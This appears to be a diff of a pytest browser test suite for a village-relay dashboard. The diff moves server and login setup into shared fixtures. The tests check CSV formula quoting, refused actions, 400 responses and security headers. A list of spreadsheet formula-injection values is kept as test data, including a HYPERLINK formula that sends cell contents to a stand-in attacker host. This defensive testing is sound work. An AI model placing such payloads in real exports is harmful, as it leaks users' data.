@@ -13,7 +13,6 @@ from __future__ import annotations
 
 import csv
 import io
-import json
 import re
 import shutil
 import types
@@ -22,51 +21,29 @@ from typing import Any, AsyncIterator
 
 import pytest
 import pytest_asyncio
-from aiohttp import web
 
 from node import Node
 from node.daemon import Syncer
-from relay import keys as relay_keys
-from relay.app import create_app
-from relay.config import RelayHome
-from relay.dashboard import DASHBOARD_APP
-from relay.dashboard.keys import ACCOUNTS
-from relay.demo_county import DEMO_USERS
 from store import Store
 from store.records import WARNING, Party
 
-async_playwright = pytest.importorskip("playwright.async_api").async_playwright
-CHROMIUM = shutil.which("chromium")
-FLAGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking",
-         "--disable-component-update", "--disable-sync", "--no-first-run"]
-LOGINS = {name: pw for name, _, _, pw in DEMO_USERS}
 EVIL = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1+2", "-2+3", "@SUM(A1)",
         "\t=1+1", "\r=1+1"]
 
-pytestmark = [pytest.mark.skipif(CHROMIUM is None, reason="needs Debian's chromium "
-                                 "(make system-deps installs it)"),
+pytestmark = [pytest.mark.skipif(shutil.which("chromium") is None,
+                                 reason="needs Debian's chromium (make system-deps installs it)"),
               pytest.mark.asyncio(loop_scope="module")]
 
 
 @pytest_asyncio.fixture(scope="module", loop_scope="module")
-async def relay(county_template: types.SimpleNamespace,
+async def relay(served_county: types.SimpleNamespace,
                 tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Any]:
-    """The demo county served by a real relay, with villages' cases titled as formulas
-    (brought by a real node's sync)."""
+    """The demo county served by a real relay (conftest's ``served_county``), with
+    villages' cases titled as formulas (brought by a real node's sync)."""
     tmp = tmp_path_factory.mktemp("findings")
-    dest = tmp / "relay"
-    shutil.copytree(county_template.path, dest)
-    (dest / "dashboard.json").write_text(json.dumps({"warning_interval_s": 0}))
-    home = RelayHome(dest)
-    app = create_app(home, tls=False)
-    runner = web.AppRunner(app, access_log=None, shutdown_timeout=5.0)
-    await runner.setup()
-    site = web.TCPSite(runner, "127.0.0.1", 0)
-    await site.start()
-    port = runner.addresses[0][1]
     node = await Node.create(tmp / "by-node", village="BY", village_name="白云村",
                              county="KC", director="周主任")
-    node.config.relay_url = f"ws://127.0.0.1:{port}/v1/sync"
+    node.config.relay_url = f"ws://127.0.0.1:{served_county.port}/v1/sync"
     node.home.save(node.config)
     try:
         for title in EVIL:
@@ -75,36 +52,20 @@ async def relay(county_template: types.SimpleNamespace,
                                       description="公式测试")
         res = await Syncer(node, discovery=False).sync_relay()
         assert res.ok, res.error
-        yield types.SimpleNamespace(base=f"http://127.0.0.1:{port}", home=home,
-                                    store=app[relay_keys.STORE],
-                                    accounts=app[DASHBOARD_APP][ACCOUNTS])
+        yield served_county
     finally:
         await node.close()
-        await runner.cleanup()
 
 
-@pytest_asyncio.fixture(scope="module", loop_scope="module")
-async def browser() -> AsyncIterator[Any]:
-    async with async_playwright() as p:
-        b = await p.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
-        try:
-            yield b
-        finally:
-            await b.close()
+@pytest.fixture(scope="module")
+def logged_in(open_dashboard: Any) -> Any:
+    async def login(browser: Any, base: str, name: str = "operator") -> Any:
+        return await open_dashboard(base, name)
+    return login
 
 
-async def logged_in(browser: Any, base: str, name: str = "operator") -> Any:
-    ctx = await browser.new_context(accept_downloads=True, locale="zh-CN")
-    page = await ctx.new_page()
-    await page.goto(f"{base}/dashboard/login")
-    await page.fill("input[name=name]", name)
-    await page.fill("input[name=password]", LOGINS[name])
-    await page.click("button[type=submit]")
-    await page.wait_for_url(f"{base}/dashboard/")
-    return page
-
-
-async def test_csv_cells_that_are_formulas_are_quoted(relay, browser, tmp_path: Path) -> None:
+async def test_csv_cells_that_are_formulas_are_quoted(relay, browser, logged_in,
+                                                      tmp_path: Path) -> None:
     page = await logged_in(browser, relay.base)
     try:
         await page.goto(f"{relay.base}/dashboard/villages/BY?all=1")
@@ -145,7 +106,8 @@ def audit_count(relay: Any) -> int:
     return acc.count_events("warning_acknowledged") + acc.count_events("warning_closed")
 
 
-async def test_a_refused_warning_action_says_why_and_keeps_the_note(relay, browser) -> None:
+async def test_a_refused_warning_action_says_why_and_keeps_the_note(relay, browser,
+                                                                   logged_in) -> None:
     doc_id = await open_warning(relay.store)
     before = await relay.store.read(doc_id)
     audited = audit_count(relay)
@@ -193,7 +155,7 @@ async def test_a_refused_warning_action_says_why_and_keeps_the_note(relay, brows
 
 
 async def test_absurd_page_and_month_answer_400_in_the_operators_language(
-        relay, browser) -> None:
+        relay, browser, logged_in) -> None:
     page = await logged_in(browser, relay.base)
     try:
         for path in ("/dashboard/villages/BY?page=999999999999999999999",
@@ -216,7 +178,7 @@ async def test_absurd_page_and_month_answer_400_in_the_operators_language(
 HEADERS = ("content-security-policy", "x-frame-options", "x-content-type-options")
 
 
-async def test_security_headers_on_every_response(relay, browser) -> None:
+async def test_security_headers_on_every_response(relay, browser, logged_in) -> None:
     seen: dict[int, dict[str, str]] = {}
     ctx = await browser.new_context(locale="zh-CN")
     page = await ctx.new_page()
